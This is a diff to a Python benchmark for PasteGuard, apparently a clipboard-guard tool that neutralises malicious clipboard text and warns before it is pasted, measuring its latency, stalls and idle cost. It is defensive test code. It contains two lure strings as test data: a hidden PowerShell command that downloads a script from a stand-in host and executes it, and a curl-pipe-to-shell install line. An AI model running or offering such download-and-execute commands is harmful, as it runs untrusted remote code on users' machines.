@@ -8,25 +8,30 @@ from __future__ import annotations
 import json
 import os
 import statistics
+import subprocess
+import sys
 import tempfile
 import time
 from pathlib import Path
 
 import psutil
 
+from app import ipc
 from app.detection import Engine, PasteTarget
 from app.guard.keys import PasteSequence
-from app.guard.neutralize import NEUTRAL_LINE
 from app.guard.provenance import Provenance
 from app.guard.service import ClipboardChange, GuardService, GuardSettings, PasteWarning
 from app.guard.targets import TargetClassifier
 from app.platform.base import KeyEvent, WindowInfo
 from bench.report import Result, met, table
-from tests.desktop import BIN, Desktop, desktop, wait_for
+from tests.desktop import BIN, REPO, Desktop, desktop, wait_for
 
 ROUNDS = 40
+WARNING_ROUNDS = 20
+RETENTION_EVENTS = 200_000
 IDLE_SECONDS = 60.0
 MALICIOUS = 'powershell -w h -c "iwr https://evil.test/{n}.ps1 | iex"'
+SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
 
 
 def _status(d: Desktop, data: Path) -> dict[str, object] | None:
@@ -39,37 +44,97 @@ def _percentile(values: list[float], p: float) -> float:
     return ordered[min(len(ordered) - 1, round(p / 100 * (len(ordered) - 1)))]
 
 
+def _start_guard(d: Desktop, tmp: Path, data: Path) -> tuple[object, float, float]:
+    """The guard process; (process, launch → status answers in s, the guard's own ready_ms)."""
+    d.env.update(PASTEGUARD_CONFIG_DIR=str(tmp / "cfg"), PASTEGUARD_POLICY=str(tmp / "none"))
+    launched = time.monotonic()
+    log = (tmp / f"guard-{data.name}.log").open("wb")
+    guard = d.start(str(BIN / "pasteguard"), "run", "--no-tray", "--data-dir", str(data),
+                    stdout=log, stderr=log)  # fmt: skip
+    status = wait_for(lambda: _status(d, data), timeout=60, step=0.05)
+    assert isinstance(status, dict)
+    return guard, time.monotonic() - launched, float(status.get("ready_ms") or 0)
+
+
+def _neutralise_latencies(d: Desktop, tmp: Path) -> list[float]:
+    """Another program (tests/churn.py) owns the clipboard with lures and ordinary text, 10 a
+    second; the latency is from its SetSelectionOwner to the SelectionClear the guard's holder
+    causes (no polling in the measurement)."""
+    texts = [MALICIOUS.format(n=n) if n % 2 else f"ordinary text {n}" for n in range(2 * ROUNDS)]
+    (tmp / "plan.json").write_text(json.dumps(texts), encoding="utf-8")
+    subprocess.run(
+        [sys.executable, "-m", "tests.churn", d.display, str(tmp / "plan.json"), "10",
+         str(tmp / "churn.json")],
+        cwd=REPO, timeout=120, check=True, env=d.env,
+    )  # fmt: skip
+    report = json.loads((tmp / "churn.json").read_text())
+    return [1000 * a for a in report["after"] if a is not None]
+
+
+def _active_window_name(d: Desktop) -> str:
+    return d.run("xdotool", "getactivewindow", "getwindowname").stdout
+
+
+def _warning_latencies(d: Desktop, data: Path, rounds: int) -> list[float]:
+    """Ctrl+Shift+V in xterm with a suspicious text held: to the warning being the active
+    window (polled every 5 ms through xdotool, a few ms of which are the poll itself)."""
+    d.start("xterm", "-xrm",
+            "XTerm*VT100.Translations: #override Ctrl Shift <Key>V: insert-selection(CLIPBOARD)",
+            "-e", "bash", "--norc", stderr=subprocess.DEVNULL)  # fmt: skip
+    wait_for(lambda: d.run("xdotool", "search", "--class", "xterm").stdout.strip(), timeout=10)
+    owner = d.set_clipboard(SUSPICIOUS)
+    wait_for(lambda: ((_status(d, data) or {}).get("current") or {}).get("held"), timeout=10)
+    out = []
+    for _ in range(rounds):
+        d.run("xdotool", "search", "--class", "xterm", "windowactivate", "--sync")
+        time.sleep(0.3)
+        begin = time.monotonic()
+        d.run("xdotool", "key", "ctrl+shift+v")
+        wait_for(lambda: "PasteGuard warning" in _active_window_name(d), timeout=10, step=0.005)
+        out.append((time.monotonic() - begin) * 1000)
+        time.sleep(0.3)
+        d.run("xdotool", "key", "Escape")
+        wait_for(lambda: "PasteGuard warning" not in _active_window_name(d), timeout=10)
+    owner.terminate()
+    return out
+
+
+def _retention_stall(d: Desktop, tmp: Path) -> tuple[float, float, int]:
+    """A guard started on a log of 200,000 expired events deletes them at start; meanwhile the
+    control socket (served on the UI thread) is asked for status every 10 ms. The longest
+    answer is an upper bound on the longest UI-thread stall. Returns (longest ms, median ms,
+    requests)."""
+    from bench.store import build_big
+
+    data = tmp / "retention"
+    data.mkdir()
+    build_big(data, RETENTION_EVENTS)  # a year of events ending 2026-06-01: all expired
+    _start_guard(d, tmp, data)
+    times: list[float] = []
+    deadline = time.monotonic() + 300
+    while time.monotonic() < deadline:
+        begin = time.perf_counter()
+        answer = ipc.request(data, {"cmd": "status"}, timeout=10.0)
+        times.append((time.perf_counter() - begin) * 1000)
+        store = (answer or {}).get("store") or {}
+        if (
+            isinstance(store, dict)
+            and store.get("events") is not None
+            and int(str(store["events"])) < RETENTION_EVENTS // 100
+        ):
+            break
+        time.sleep(0.01)
+    return max(times), statistics.median(times), len(times)
+
+
 def _live(tmp: Path) -> tuple[list[list[object]], list[str]]:
     data = tmp / "data"
     rows: list[list[object]] = []
-    with desktop() as d, (tmp / "guard.log").open("wb") as log:
-        d.env.update(PASTEGUARD_CONFIG_DIR=str(tmp / "cfg"), PASTEGUARD_POLICY=str(tmp / "none"))
-        launched = time.monotonic()
-        guard = d.start(
-            str(BIN / "pasteguard"),
-            "run",
-            "--no-tray",
-            "--data-dir",
-            str(data),
-            stdout=log,
-            stderr=log,
-        )
-        status = wait_for(lambda: _status(d, data), timeout=30, step=0.05)
-        start_s = time.monotonic() - launched
-        assert isinstance(status, dict)
-        ready_ms = float(status.get("ready_ms") or 0)
-        latencies = []
-        for n in range(ROUNDS):
-            # start from a harmless clipboard, so that the harmless line read below is new
-            harmless = f"round {n}"
-            d.set_clipboard(harmless)
-            wait_for(lambda h=harmless: d.clipboard() == h, timeout=5, step=0.005)
-            owner = d.set_clipboard(MALICIOUS.format(n=n))
-            begin = time.monotonic()
-            wait_for(lambda: d.clipboard() == NEUTRAL_LINE, timeout=5, step=0.002)
-            latencies.append((time.monotonic() - begin) * 1000)
-            owner.wait(timeout=5)  # xclip exits once the guard took the clipboard over
-        proc = psutil.Process(guard.pid)
+    with desktop() as d:
+        guard, start_s, ready_ms = _start_guard(d, tmp, data)
+        latencies = _neutralise_latencies(d, tmp)
+        warnings = _warning_latencies(d, data, WARNING_ROUNDS)
+        proc = psutil.Process(guard.pid)  # type: ignore[attr-defined]
         rss_mb = proc.memory_info().rss / 2**20
         cpu_before = proc.cpu_times()
         wall_before = time.monotonic()
@@ -78,13 +143,32 @@ def _live(tmp: Path) -> tuple[list[list[object]], list[str]]:
         idle = cpu_after.user + cpu_after.system - cpu_before.user - cpu_before.system
         idle_pct = 100 * idle / (time.monotonic() - wall_before)
         rss_after = proc.memory_info().rss / 2**20
+    with desktop() as d:
+        longest, median, requests = _retention_stall(d, tmp)
     p95 = _percentile(latencies, 95)
     rows.append(
         [
             "clipboard change → neutralised, p95",
-            f"{p95:.0f} ms (median {statistics.median(latencies):.0f}, max {max(latencies):.0f})",
-            "≤ 150 ms",
-            met(p95 <= 150),
+            f"{p95:.1f} ms (median {statistics.median(latencies):.1f}, max {max(latencies):.1f})",
+            "≤ 20 ms",
+            met(p95 <= 20),
+        ]
+    )
+    w95 = _percentile(warnings, 95)
+    rows.append(
+        [
+            "Ctrl+V → warning shown, p95",
+            f"{w95:.0f} ms (median {statistics.median(warnings):.0f}, max {max(warnings):.0f})",
+            "≤ 200 ms",
+            met(w95 <= 200),
+        ]
+    )
+    rows.append(
+        [
+            f"longest UI-thread stall during retention of {RETENTION_EVENTS:,} events",
+            f"{longest:.0f} ms (median answer {median:.1f} ms, {requests} requests)",
+            "≤ 100 ms",
+            met(longest <= 100),
         ]
     )
     rows.append(["idle CPU over a minute", f"{idle_pct:.2f} %", "≤ 0.5 %", met(idle_pct <= 0.5)])
@@ -99,9 +183,14 @@ def _live(tmp: Path) -> tuple[list[list[object]], list[str]]:
         ]
     )
     notes = [
-        f"{ROUNDS} malicious texts put on the clipboard by xclip, one at a time; latency from the "
-        "moment xclip owns the clipboard to the moment `xclip -o` reads the harmless line (polled "
-        "every 2 ms, so it includes one xclip round trip). Backend: X11 under Xvfb + openbox.",
+        f"Neutralise: {ROUNDS} lures among {ROUNDS} ordinary texts, 10 changes a second, owned by "
+        "another program (tests/churn.py); from its SetSelectionOwner to the SelectionClear the "
+        "guard's holder causes. Backend: X11 under Xvfb + openbox.",
+        f"Warning: {WARNING_ROUNDS} Ctrl+Shift+V in xterm with a suspicious text held; to the "
+        "warning being the active window (xdotool polled every 5 ms, so it includes a poll).",
+        f"Retention: a guard started on a log of {RETENTION_EVENTS:,} expired events (bench.store "
+        "build_big) deletes them on its retention thread; the control socket, served on the UI "
+        "thread, answered `status` every 10 ms until fewer than 1 % were left.",
         f"Idle CPU: user+system time of the guard process over {IDLE_SECONDS:.0f} s with nothing "
         "happening; memory: RSS after the rounds and after the idle minute.",
     ]
